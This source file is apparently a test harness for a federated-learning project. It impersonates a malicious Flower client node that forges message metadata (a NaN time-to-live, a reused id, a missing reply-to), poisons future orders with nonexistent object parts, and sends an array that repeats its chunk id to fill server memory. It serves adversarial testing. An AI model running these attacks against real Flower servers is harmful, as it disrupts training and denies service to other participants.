"""What a registered node could send, made by hand.

    python -m tests.federation.attacks KEY ADDRESS CA SECONDS

joins with the node's private key and offers client 1. It confirms each message before it has pulled it, so that Flower
would delete it while the server sends it. It answers the first order with four messages: the order itself, for which
Flower would end the server's transfers, one without an end of its time, which Flower could not read again, one that is
no reply, and one that announces the objects of the orders to come with parts that do not exist, in order to make Flower
refuse them. It answers the other orders with an array that names its only piece very often, to fill the memory.
"""

import json
import os
import sys
import time
from contextlib import suppress
from pathlib import Path
from unittest.mock import patch

import httpx
from cryptography.hazmat.primitives import serialization
from flwr.app import Array, ArrayRecord, ConfigRecord, RecordDict
from flwr.app import Message as AppMessage
from flwr.proto.fleet_pb2 import PushMessagesRequest
from flwr.proto.message_pb2 import Message, Metadata, ObjectTree
from flwr.proto.node_pb2 import Node
from flwr.supercore.run import RunNotRunningException
from flwr.supernode.fleet_http_connection import message_to_proto

ORDER, REPLY = "a" * 64, "0" * 64  # ids
DEFLATE = Array.deflate


def reply_of(node, objects, sender=None, to=ORDER, runtime=0.0, root=REPLY, **more):
    """A reply with many objects, of the node with this id, as bytes; `more` goes into its metadata."""
    tree = ObjectTree(object_id=root)
    tree.children.extend(ObjectTree(object_id=f"{number:064x}") for number in range(objects))
    about = {"message_id": REPLY, "reply_to_message_id": to, **more}
    message = Message(metadata=Metadata(src_node_id=node, run_id=1, **about))
    request = PushMessagesRequest(
        node=Node(node_id=sender or node), messages_list=[message], clientapp_runtime_list=[runtime]
    )
    request.message_object_trees.append(tree)
    return request.SerializeToString()


def poisoned(root, settings, order):
    """The objects of a reply: records of the next orders to clients 0 and 1, each with a part that does not exist."""
    tree = ObjectTree(object_id=root)
    for number in range(order["round"] + 1, order["round"] + 4):
        for client in (0, 1):
            for since in range(-1, number):
                told = {"round": number, "attempt": 0, "clients": [client], "steps": order["steps"], "since": [since]}
                record = ConfigRecord({"settings": settings, "order": json.dumps(told)})
                tree.children.add(object_id=record.object_id).children.add(object_id=os.urandom(32).hex())
    return tree


def as_the_server(message):
    """A message that is no reply, so that it could be taken for one of the server's."""
    made = message_to_proto(message)
    made.metadata.reply_to_message_id = ""
    return made


def without_end(message):
    """A message as Flower sends it, with a time to live that is no number."""
    made = message_to_proto(message)
    made.metadata.ttl = float("nan")
    return made


def as_the_order(message):
    """A reply with the id of the message that it answers."""
    made = message_to_proto(message)
    made.metadata.message_id = made.metadata.reply_to_message_id
    return made


def naming_its_piece_often(array):
    """The content of an array whose bytes are 4,000 times those of its only piece."""
    head, _, body = DEFLATE(array).partition(b"\0")
    body = body.replace(b'"arraychunk_ids": [0]', b'"arraychunk_ids": [' + b"0, " * 3_999 + b"0]")
    kind, pieces, _ = head.split(b" ")
    return b"%b %b %d\0%b" % (kind, pieces, len(body), body)


def main(key, address, ca, seconds):
    from flwr.supercore.inflatable.inflatable_object import get_all_nested_objects, get_object_tree
    from flwr.supercore.inflatable.inflatable_utils import pull_and_inflate_object_from_tree, push_objects
    from flwr.supernode.fleet_http_connection import http_request_response

    private, end = serialization.load_ssh_private_key(Path(key).read_bytes(), None), time.monotonic() + float(seconds)
    with http_request_response(address, False, Path(ca).read_bytes(), (private, private.public_key())) as connection:
        _, receive, send, _, _, pull, push, confirm = connection
        print("connected", flush=True)
        while time.monotonic() < end:
            if (got := receive()) is None:
                time.sleep(0.2)
                continue
            about, tree = got
            run = about.metadata.run_id
            with suppress(httpx.HTTPError, RunNotRunningException):
                confirm(run, tree.object_id)
            message = pull_and_inflate_object_from_tree(
                tree,
                lambda one, run=run: pull(run, one),
                lambda one, run=run: confirm(run, one),
                return_type=AppMessage,
            )
            message.metadata.__dict__["_message_id"] = tree.object_id
            record = message.content.config_records["fedgbo"]
            settings, order = json.loads(record["settings"]), json.loads(record.get("order", '{"round": -1}'))
            answer = {"version": settings["version"], "clients": [1], "samples": [20], "model": settings["model"]}
            content = RecordDict({"fedgbo": ConfigRecord({"answer": json.dumps(answer)})})
            if order["round"] > 0:
                content["up.1"] = ArrayRecord({"params": Array("float32", (10,), "numpy.ndarray", bytes(100_000))})
            reply = AppMessage(content, reply_to=message)
            reply.metadata.__dict__["_message_id"] = reply.object_id
            if order["round"] == 0:
                whole = get_object_tree(reply)
                for change, objects in ((as_the_order, tree), (without_end, whole), (as_the_server, whole)):
                    with (
                        patch("flwr.supernode.fleet_http_connection.message_to_proto", change),
                        suppress(httpx.HTTPError, RunNotRunningException),
                    ):
                        send(reply, objects, 0.1)
                send(reply, poisoned(reply.object_id, record["settings"], order), 0.1)
                print("poisoned after round", order["round"] + 1, flush=True)
            else:
                wanted, session = send(reply, get_object_tree(reply), 0.1)
                objects = get_all_nested_objects(reply)
                push_objects(
                    objects,
                    lambda one, content, run=run, session=session: push(run, session, one, content),
                    object_ids_to_push=wanted,
                )


if __name__ == "__main__":
    main(*sys.argv[1:])
